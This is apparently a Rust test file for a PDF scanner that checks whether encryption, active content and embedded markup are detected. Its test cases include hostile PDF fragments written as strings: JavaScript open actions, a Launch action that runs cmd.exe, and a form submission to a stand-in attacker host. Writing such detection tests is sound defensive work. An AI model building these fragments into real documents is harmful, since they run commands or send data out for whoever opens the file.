//! The lexer and what it tells apart.

use proptest::prelude::*;

use super::*;

fn tokens(text: &[u8]) -> Vec<Token> {
    let mut lexer = Lexer::new(text);
    let mut tokens = Vec::new();
    loop {
        match lexer.next().unwrap() {
            Token::End => return tokens,
            token => tokens.push(token),
        }
    }
}

fn scan(text: &[u8]) -> Scan {
    let mut scan = Scan { budget: MAX_UNPACKED, ..Scan::default() };
    scan.file(&mut Lexer::new(text)).unwrap();
    scan
}

#[test]
fn words_names_and_strings_are_told_apart() {
    let name = |name: &str| Token::Name(name.as_bytes().to_vec());
    let word = |word: &str| Token::Word(word.as_bytes().to_vec());
    assert_eq!(
        tokens(b"1 0 obj<</A(x\\)/B(y))/C#42<41 /D>/E[/F null]>>% /G\nendobj"),
        [
            word("1"),
            word("0"),
            word("obj"),
            Token::DictOpen,
            name("A"),
            Token::Text,
            name("CB"),
            Token::Text,
            name("D"),
            name("E"),
            Token::ArrayOpen,
            name("F"),
            word("null"),
            Token::ArrayClose,
            Token::DictClose,
            word("endobj"),
        ]
    );
}

#[test]
fn a_password_is_an_entry_of_the_trailer_and_nothing_else() {
    for (text, encrypted) in [
        ("trailer<</Size 1/Encrypt 9 0 R>>", true),
        ("trailer <</Encrypt<</V 1>>/Size 1>>", true),
        ("trailer<</Root 1 0 R/#45ncrypt 9 0 R>>", true),
        ("7 0 obj<</W[1 2 1]/Encrypt 9 0 R/Type/XRef>>stream\nx\nendstream", true),
        ("trailer<</Size 1/Encrypt null>>", false),
        ("trailer<</Info<</Encrypt 1>>>>", false),
        ("trailer<</ID[(/Encrypt 9 0 R)<00>]/Title(/Encrypt 1)>>", false),
        ("1 0 obj<</Encrypt 9 0 R>>endobj trailer<<>>", false),
        ("1 0 obj<</Length 9>>stream\ntrailer<</Encrypt 1>>\nendstream trailer<<>>", false),
        ("% trailer<</Encrypt 1>>\ntrailer<</Size 2>>", false),
    ] {
        let scan = scan(text.as_bytes());
        assert_eq!((scan.encrypted, scan.indexed), (encrypted, true), "{text}");
    }
}

#[test]
fn of_many_filters_two_are_kept() {
    let text = format!("<</Filter[{}]", "/A".repeat(1_000));
    let (mut lexer, mut dict) = (Lexer::new(text.as_bytes()), Dict::default());
    loop {
        match lexer.next().unwrap() {
            Token::End => break,
            token => dict.see(&token, lexer.depth),
        }
    }
    assert_eq!(dict.filters.len(), 2, "a million of them would cost no more");
}

#[test]
fn scripts_and_programs_are_found_where_they_can_run() {
    for (text, active) in [
        ("1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj", true),
        ("1 0 obj<</AA<</O<</S /Launch/F(cmd.exe)>>>>>>endobj", true),
        ("1 0 obj<</S/J#61vaScript/JS 4 0 R>>endobj", true),
        ("1 0 obj<</Names<</JavaScript 5 0 R>>>>endobj", true),
        ("1 0 obj<</Type/ObjStm/Filter/LZWDecode>>stream\nx\nendstream", true),
        ("1 0 obj<</Type/ObjStm/N 1>>stream\n1 0 <</S/JavaScript>>\nendstream", true),
        ("7 0 obj[(%)<</S/JavaScript/JS(app.alert(1))>>]endobj", true),
        ("7 0 obj(\\()<</S/JavaScript/JS(app.alert(1))>>endobj", true),
        ("1 0 obj<</FS<</EF<</F 9 0 R>>>>>>endobj", true),
        ("1 0 obj<</FS<</F(a)/EF 8 0 R>>>>endobj", true),
        ("1 0 obj<</S 9 0 R/F(cmd.exe)>>endobj 9 0 obj/Launch endobj", true),
        ("1 0 obj<</Type/ObjStm/N 1>>stream\n9 0 /Launch\nendstream", true),
        ("1 0 obj<</Subtype/3D>>endobj", true),
        ("1 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj", true),
        ("1 0 obj(2 0 obj<</S/JavaScript>>endobj", true),
        ("1 0 obj<</Title(2 0 obj<</S/JavaScript>>endobj)>>endobj", true),
        ("% 2 0 obj<</S/JavaScript>>endobj\n1 0 obj<<>>endobj", true),
        ("1 0 obj<</Length 9>>stream\n2 0 obj%\n<</S/JavaScript>>\nendstream", true),
        ("1 0 obj<</Title(/JavaScript /JS)/S/GoTo>>endobj", false),
        ("1 0 obj<</Length 3>>stream\n<</S/JavaScript>>\nendstream", false),
        ("1 0 obj<</BaseFont/Launch>>endobj", false),
        ("1 0 obj(<</S/JavaScript>>)endobj", false),
        ("1 0 obj[(%)(<</S/JavaScript>>)]endobj", false),
        ("1 0 obj[0/3C/3D/3E 65/EF/F]endobj", false),
        ("1 0 obj<</Differences[0/EF 65/A 66/B]>>endobj", false),
        ("1 0 obj<</Type/ObjStm/DecodeParms[null]>>stream\n9 0 1\nendstream", false),
        ("1 0 obj<</Type/ObjStm/DecodeParms<</Predictor 1>>>>stream\n9 0 1\nendstream", false),
    ] {
        assert_eq!(scan(text.as_bytes()).active, active, "{text}");
    }
}

#[test]
fn parameters_that_change_what_is_packed_are_told_from_those_that_do_not() {
    for (entry, changes) in [
        ("/DecodeParms null", false),
        ("/DecodeParms[null null]", false),
        ("/DP<</Predictor 1/Columns 5>>", false),
        ("/DecodeParms[<</Columns 5>>null]", false),
        ("/DecodeParms<</Predictor 12>>", true),
        ("/DecodeParms[null<</Columns 5/Predictor 2>>]", true),
        ("/DecodeParms<</Predictor 9 0 R>>", true),
        ("/DecodeParms<</Predictor<<>>>>", true),
        ("/DecodeParms<</Name/Crypt>>", true),
        ("/DecodeParms 9 0 R", true),
        ("/DP[9 0 R]", true),
    ] {
        let text = format!("1 0 obj<</Type/ObjStm{entry}>>stream\n9 0 1\nendstream");
        assert_eq!(scan(text.as_bytes()).active, changes, "{entry}");
    }
}

#[test]
fn tags_are_looked_for_between_objects_alone() {
    for (text, found) in [
        ("9 0 obj [/Indexed/DeviceRGB 1(\u{1}<HP<bx)] endobj", false),
        ("9 0 obj (Đơn của <Họ tên> <!-- a -->) endobj", false),
        ("9 0 obj <48656C6C6F> endobj", false),
        ("<html> 9 0 obj<<>>endobj", true),
        ("9 0 obj<<>>endobj <script>", true),
        ("9 0 obj<<>>endobj trailer<<>> startxref 0 <!-- ", true),
    ] {
        let mut lexer = Lexer::new(text.as_bytes());
        Scan::default().file(&mut lexer).unwrap();
        assert_eq!(lexer.markup, found, "{text}");
    }
}

proptest! {
    #[test]
    fn a_stream_is_copied_up_to_its_end(data in "(en|end|ends|endstr|endstre|endstrea|d|s|x|e){0,30}") {
        let text = format!("{data}endstream rest");
        let mut copied = Vec::new();
        let mut lexer = Lexer::new(text.as_bytes());
        lexer.copy_stream(&mut copied).unwrap();
        let end = text.find("endstream").unwrap();
        prop_assert_eq!(copied, &text.as_bytes()[..end]);
    }

    #[test]
    fn no_bytes_break_the_scan(data: Vec<u8>, text in "(<<|>>|/|JS|\\(|\\[|stream|obj|trailer| ){0,60}") {
        let mut bytes = data;
        bytes.extend_from_slice(text.as_bytes());
        let found = scan(&bytes);
        prop_assert!(found.budget > 0);
    }
}
